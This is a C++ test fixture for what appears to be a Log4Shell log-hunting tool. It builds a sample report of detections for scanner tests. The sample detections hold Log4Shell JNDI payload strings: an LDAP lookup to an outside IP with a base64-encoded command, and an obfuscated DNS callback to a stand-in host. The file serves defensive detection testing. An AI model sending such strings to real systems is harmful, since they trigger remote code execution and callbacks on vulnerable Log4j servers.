// A small hunt report for the sink tests: three detections (two naming the
// same callback server) and one error.
#pragma once

#include <optional>
#include <string>

#include <gtest/gtest.h>

#include "hunt/detection.h"
#include "hunt/hunt_report.h"

namespace l4s::hunt::testing {

inline Detection make(const std::string& line, const std::string& ts, const std::string& ip) {
  std::optional<Detection> d = examine_line(line);
  EXPECT_TRUE(d.has_value()) << line;
  d->file = "/var/log/x.log";
  d->line = 7;
  d->offset = 100;
  d->timestamp = ts;
  d->timestamp_raw = ts;
  d->source_ip = ip;
  return *d;
}

inline HuntReport sample() {
  HuntReport r;
  r.tool_version = "0.1.0";
  r.host = "h";
  r.started = "2026-01-01T00:00:00Z";
  r.finished = "2026-01-01T00:00:01Z";
  r.roots = {"/var/log"};
  r.detections.push_back(make("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/aWQ=}",
                              "2021-12-11T10:00:00Z", "45.155.205.233"));
  r.detections.push_back(make("${${lower:j}ndi:dns://cb.example.net/x}", "2021-12-12T10:00:00Z", "192.0.2.1"));
  r.detections.push_back(make("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/aWQ=}",
                              "2021-12-10T10:00:00Z", "45.155.205.233"));
  r.errors.push_back({"/var/log/bad.gz", "gzip: truncated data"});
  r.stats.files = 2;
  return r;
}

}  // namespace l4s::hunt::testing
